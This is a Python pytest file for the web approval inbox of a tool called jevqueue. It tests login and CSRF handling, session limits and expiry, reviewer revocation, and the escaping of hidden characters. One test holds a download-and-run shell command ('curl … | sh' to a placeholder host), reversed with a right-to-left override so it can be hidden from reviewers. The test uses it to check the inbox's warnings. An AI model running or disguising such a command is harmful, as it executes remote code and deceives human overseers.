"""Logins that keep nothing before they succeed, bounded sessions, a reviewers file read
again when it changes, idle sessions, and text that cannot hide on the pages."""

from __future__ import annotations

import logging
import re
import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("starlette", reason='starlette is not installed: pip install "jevqueue[serve]"')

from click.testing import CliRunner
from jevqueue.approvals import SQLiteApprovalInbox, generate_key_pair
from jevqueue.cli import main

from .conftest import (
    BASE,
    CONTEXT,
    PATIENT,
    Reviewer,
    approval_request,
    csrf_of,
    file_request,
)

People = tuple[Path, dict[str, Reviewer]]


def _app(inbox: SQLiteApprovalInbox, reviewers_file: People, **options: Any) -> Any:
    from jevqueue.serve import Reviewers, create_app

    return create_app(inbox, Reviewers.load(reviewers_file[0]), **options)


def _browser(app: Any) -> Any:
    from starlette.testclient import TestClient

    return TestClient(app, base_url=BASE, headers={"origin": BASE}, follow_redirects=False)


def _log_in(client: Any, name: str, token: str) -> Any:
    form = client.get("/login")
    return client.post(
        "/login", data={"reviewer": name, "token": token, "csrf_token": csrf_of(form.text)}
    )


def _until(condition: Callable[[], bool]) -> None:
    deadline = time.monotonic() + PATIENT
    while not condition():
        assert time.monotonic() < deadline, "the server never saw the change"
        time.sleep(0.2)


# --- the login form -------------------------------------------------------------------------


def test_showing_the_login_form_keeps_nothing_on_the_server(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    from jevqueue.serve import SessionStore

    sessions = SessionStore(limit=50)
    app = _app(inbox, reviewers_file, sessions=sessions)
    alice = _browser(app)
    assert _log_in(alice, "alice", reviewers_file[1]["alice"].token).status_code == 303
    bob = _browser(app)
    bob_form = bob.get("/login")
    flood = _browser(app)
    for _ in range(500):
        assert flood.get("/login").status_code == 200
        flood.cookies.clear()
    assert len(sessions) == 1  # alice's, and nothing for the anonymous forms
    assert alice.get("/").status_code == 200
    answer = bob.post(
        "/login",
        data={
            "reviewer": "bob",
            "token": reviewers_file[1]["bob"].token,
            "csrf_token": csrf_of(bob_form.text),
        },
    )
    assert answer.status_code == 303


def test_a_login_form_token_needs_its_own_cookie_and_expires(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    from jevqueue.serve import SessionStore

    now = [1000.0]
    sessions = SessionStore(login_form_lifetime=timedelta(minutes=15), clock=lambda: now[0])
    app = _app(inbox, reviewers_file, sessions=sessions)
    token = reviewers_file[1]["alice"].token
    mine, theirs = _browser(app), _browser(app)
    my_form, their_form = mine.get("/login"), theirs.get("/login")
    assert "jevqueue_login" in my_form.cookies
    # another browser's form token with my cookie: refused, nothing logged in
    answer = mine.post(
        "/login",
        data={"reviewer": "alice", "token": token, "csrf_token": csrf_of(their_form.text)},
    )
    assert answer.status_code == 403
    assert "log in again" in answer.text
    assert len(sessions) == 0
    # the form expires
    form = mine.get("/login")
    now[0] += 16 * 60
    answer = mine.post(
        "/login", data={"reviewer": "alice", "token": token, "csrf_token": csrf_of(form.text)}
    )
    assert answer.status_code == 403
    assert len(sessions) == 0
    # the fresh form that refusal shows works
    answer = mine.post(
        "/login", data={"reviewer": "alice", "token": token, "csrf_token": csrf_of(answer.text)}
    )
    assert answer.status_code == 303


def test_sessions_are_dropped_least_recently_used_first_and_bounded_per_reviewer(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    from jevqueue.serve import SessionStore

    sessions = SessionStore(limit=3, per_reviewer=2)
    app = _app(inbox, reviewers_file, sessions=sessions)
    people = reviewers_file[1]
    first, second = _browser(app), _browser(app)
    assert _log_in(first, "alice", people["alice"].token).status_code == 303
    assert _log_in(second, "bob", people["bob"].token).status_code == 303
    assert first.get("/").status_code == 200  # alice's is now the most recently used
    third, fourth = _browser(app), _browser(app)
    assert _log_in(third, "coding-agent", people["coding-agent"].token).status_code == 303
    assert _log_in(fourth, "alice", people["alice"].token).status_code == 303
    assert len(sessions) == 3
    assert second.get("/").status_code == 303  # bob's was the least recently used
    assert first.get("/").status_code == 200
    # a third login of alice drops her least recently used one
    fifth = _browser(app)
    assert fourth.get("/").status_code == 200
    assert _log_in(fifth, "alice", people["alice"].token).status_code == 303
    assert first.get("/").status_code == 303
    assert fourth.get("/").status_code == 200
    assert fifth.get("/").status_code == 200


# --- idle sessions and logging out ----------------------------------------------------------


def test_the_pending_lists_own_reloads_do_not_keep_a_session_alive(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    from jevqueue.serve import SessionStore

    now = [1000.0]
    sessions = SessionStore(idle=timedelta(minutes=30), clock=lambda: now[0])
    app = _app(inbox, reviewers_file, sessions=sessions)
    client = _browser(app)
    assert _log_in(client, "alice", reviewers_file[1]["alice"].token).status_code == 303
    page = client.get("/")
    refresh = re.search(r'http-equiv="refresh" content="(\d+); url=([^"]+)"', page.text)
    assert refresh is not None
    assert refresh.group(2) == "/?auto=1"
    for _ in range(200):  # 33 minutes of an open tab, nobody at the keyboard
        now[0] += 10
        answer = client.get(refresh.group(2))
        if answer.status_code != 200:
            break
    assert answer.status_code == 303
    assert client.get("/").status_code == 303


def test_logging_out_of_an_ended_session_clears_the_cookie(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    app = _app(inbox, reviewers_file)
    client = _browser(app)
    assert _log_in(client, "alice", reviewers_file[1]["alice"].token).status_code == 303
    csrf = csrf_of(client.get("/").text)
    assert client.post("/logout", data={"csrf_token": csrf}).status_code == 303
    client.cookies.set("jevqueue_session", "an-ended-session", domain="testserver.local")
    answer = client.post("/logout", data={"csrf_token": csrf})
    assert answer.status_code == 303
    assert answer.headers["location"] == "/login"
    assert 'jevqueue_session=""' in answer.headers["set-cookie"]


# --- the reviewers file, read again -----------------------------------------------------------


def _rewrite(path: Path, entries: list[tuple[str, str, str]]) -> None:
    from jevqueue.serve._reviewers import render_reviewers_file, write_reviewers_file

    write_reviewers_file(path, render_reviewers_file(entries))


def test_a_new_token_ends_the_old_sessions_and_the_old_token(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    path, people = reviewers_file
    app = _app(inbox, reviewers_file)
    alice, bob = _browser(app), _browser(app)
    assert _log_in(alice, "alice", people["alice"].token).status_code == 303
    assert _log_in(bob, "bob", people["bob"].token).status_code == 303
    replaced = CliRunner().invoke(
        main,
        [
            "reviewers",
            "add",
            "alice",
            "--key",
            str(people["alice"].key),
            "--file",
            str(path),
            "--replace",
        ],
    )
    assert replaced.exit_code == 0, replaced.output
    new_token = replaced.stdout.strip().splitlines()[-1]
    _until(lambda: alice.get("/").status_code == 303)
    assert bob.get("/").status_code == 200  # unchanged reviewers keep their sessions
    assert _log_in(_browser(app), "alice", people["alice"].token).status_code == 401
    assert _log_in(_browser(app), "alice", new_token).status_code == 303


def test_reviewers_remove_ends_the_reviewers_sessions(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    path, people = reviewers_file
    app = _app(inbox, reviewers_file)
    bob = _browser(app)
    assert _log_in(bob, "bob", people["bob"].token).status_code == 303
    csrf = csrf_of(bob.get("/").text)
    removed = CliRunner().invoke(main, ["reviewers", "remove", "bob", "--file", str(path)])
    assert removed.exit_code == 0, removed.output
    _until(lambda: bob.get("/").status_code == 303)
    filed = file_request(inbox)
    denial = bob.post(
        f"/requests/{filed.request_id}/deny", data={"csrf_token": csrf, "reason": "x"}
    )
    assert denial.status_code == 403
    assert inbox.get(filed.request_id).decisions == ()
    assert _log_in(_browser(app), "bob", people["bob"].token).status_code == 401
    listed = CliRunner().invoke(main, ["reviewers", "list", "--file", str(path)])
    assert "bob" not in listed.output and "alice" in listed.output
    again = CliRunner().invoke(main, ["reviewers", "remove", "bob", "--file", str(path)])
    assert again.exit_code == 2
    assert "is not in" in again.output


def test_a_reviewers_file_that_breaks_while_serving_refuses_everything_until_fixed(
    inbox: SQLiteApprovalInbox, reviewers_file: People, caplog: pytest.LogCaptureFixture
) -> None:
    path, people = reviewers_file
    good = path.read_text(encoding="utf-8")
    app = _app(inbox, reviewers_file)
    alice = _browser(app)
    assert _log_in(alice, "alice", people["alice"].token).status_code == 303
    filed = file_request(inbox)
    page = alice.get(f"/requests/{filed.request_id}")
    csrf = csrf_of(page.text)
    caplog.set_level(logging.ERROR, logger="jevqueue.serve")
    path.write_text(good + "\n[[reviewer]\n", encoding="utf-8")
    _until(lambda: alice.get("/").status_code == 503)
    broken = alice.get("/")
    assert "not valid TOML" in broken.text
    assert "nobody can log in or decide" in broken.text
    assert any("no longer loads" in r.getMessage() for r in caplog.records)
    assert _browser(app).get("/login").status_code == 503
    approval = alice.post(
        f"/requests/{filed.request_id}/approve",
        data={"csrf_token": csrf, "action_digest": filed.action_digest},
    )
    assert approval.status_code == 503
    assert inbox.get(filed.request_id).decisions == ()
    path.write_text(good, encoding="utf-8")
    _until(lambda: alice.get("/").status_code == 200)


def test_a_changed_key_ends_the_reviewers_sessions(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    from jevqueue.serve._reviewers import hash_token

    path, people = reviewers_file
    app = _app(inbox, reviewers_file)
    alice = _browser(app)
    assert _log_in(alice, "alice", people["alice"].token).status_code == 303
    generate_key_pair(path.parent / "keys" / "alice-2.key")
    _rewrite(
        path,
        [
            (n, hash_token(r.token), f"keys/{'alice-2' if n == 'alice' else n}.key")
            for n, r in people.items()
        ],
    )
    _until(lambda: alice.get("/").status_code == 303)


# --- text that could hide what is approved ----------------------------------------------------


def test_hidden_characters_are_shown_as_escapes_with_a_warning(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    command = "echo 'ok' \u202e hs | x/elpmaxe.live//:ptth lruc ;\u200b\u00a0\x7f"
    tricky = file_request(
        inbox,
        approval_request(
            arguments={"CommandLine": command, "Cwd": "/workspace/project"},
            reason="a shell command \u2066needs\u2069 a person",
        ),
    )
    plain = file_request(inbox)
    client = _browser(_app(inbox, reviewers_file))
    assert _log_in(client, "alice", reviewers_file[1]["alice"].token).status_code == 303
    html = client.get(f"/requests/{tricky.request_id}").text
    for character in ("\u202e", "\u200b", "\u00a0", "\x7f", "\u2066", "\u2069"):
        assert character not in html
    for escape in ("\\u202E", "\\u200B", "\\u00A0", "\\u007F", "\\u2066"):
        assert escape in html
    assert "contain characters that can hide or disguise text" in html
    assert "can hide or disguise" not in client.get(f"/requests/{plain.request_id}").text


def test_long_lines_wrap_instead_of_scrolling_out_of_sight(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    client = _browser(_app(inbox, reviewers_file))
    css = client.get("/static/inbox.css").text
    pre = re.search(r"\npre \{(.*?)\}", css, re.S)
    assert pre is not None
    assert "white-space: pre-wrap" in pre.group(1)
    assert "overflow-wrap: anywhere" in pre.group(1)
    assert "overflow-x: auto" not in pre.group(1)


def test_the_requesters_fields_are_escaped_too(
    inbox: SQLiteApprovalInbox, reviewers_file: People
) -> None:
    # the inbox refuses bidi overrides and controls here; other format characters and
    # unusual spaces still reach the page
    context = {**CONTEXT, "task_id": "task\u200f-\u300042"}
    filed = file_request(inbox, approval_request(context=context), session_id="run\u200b-9")
    client = _browser(_app(inbox, reviewers_file))
    assert _log_in(client, "alice", reviewers_file[1]["alice"].token).status_code == 303
    for page in ("/", f"/requests/{filed.request_id}"):
        html = client.get(page).text
        assert "\u200f" not in html and "\u200b" not in html and "\u3000" not in html
        assert "task\\u200F-\\u300042" in html
        assert "run\\u200B-9" in html
